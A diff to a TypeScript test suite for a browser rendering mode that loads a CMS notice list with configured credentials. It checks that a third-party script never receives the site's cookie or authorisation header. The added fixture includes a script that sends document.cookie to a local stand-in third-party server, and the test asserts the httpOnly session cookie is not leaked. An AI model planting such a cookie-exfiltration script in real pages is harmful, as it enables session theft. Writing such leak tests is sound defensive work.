@@ -16,7 +16,7 @@ describe('browser render mode with credentials', () => {
   let thirdParty: Server;
   let siteUrl: string;
   const seenBySite: { path: string; headers: IncomingHttpHeaders }[] = [];
-  const seenByThirdParty: IncomingHttpHeaders[] = [];
+  const seenByThirdParty: (IncomingHttpHeaders & { path?: string })[] = [];
   const env = { QS_TEST_CMS_COOKIE: 'SESSIONID=s3cret; lang=zh', QS_TEST_CMS_AUTH: 'Bearer t0ken-for-list' };
 
   const listen = (server: Server) => new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
@@ -24,7 +24,7 @@ describe('browser render mode with credentials', () => {
   beforeAll(async () => {
     Object.assign(process.env, env);
     thirdParty = createServer((req, res) => {
-      seenByThirdParty.push(req.headers);
+      seenByThirdParty.push({ ...req.headers, path: req.url });
       res.writeHead(200, { 'content-type': 'application/javascript' });
       res.end('window.tracked = true;');
     });
@@ -44,6 +44,7 @@ describe('browser render mode with credentials', () => {
       if (path === '/list/index.html') {
         return html(`<div class="position">当前位置：首页 &gt; 通知公告</div><ul class="list" id="js-list"></ul>
 <script src="http://localhost:${thirdPort}/track.js"></script>
+<script>fetch('http://localhost:${thirdPort}/cookie?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });</script>
 <script>fetch('/api/list.json').then(function (r) { return r.json(); }).then(function (items) { var ul = document.getElementById('js-list'); items.forEach(function (it) { var li = document.createElement('li'); var a = document.createElement('a'); a.href = it.href; a.textContent = it.title; var s = document.createElement('span'); s.textContent = it.date; li.appendChild(a); li.appendChild(s); ul.appendChild(li); }); });</script>`);
       }
       if (path === '/api/list.json') {
@@ -94,5 +95,9 @@ describe('browser render mode with credentials', () => {
     // The third-party script was loaded, without the source's secrets.
     expect(seenByThirdParty.length).toBeGreaterThan(0);
     expect(seenByThirdParty.every((h) => h.cookie === undefined && h.authorization === undefined)).toBe(true);
+    // The session cookie is httpOnly: the page's scripts cannot read it and hand it on.
+    const handedOn = seenByThirdParty.find((h) => h.path?.startsWith('/cookie'));
+    expect(handedOn).toBeDefined();
+    expect(handedOn!.path).not.toContain('s3cret');
   });
 });
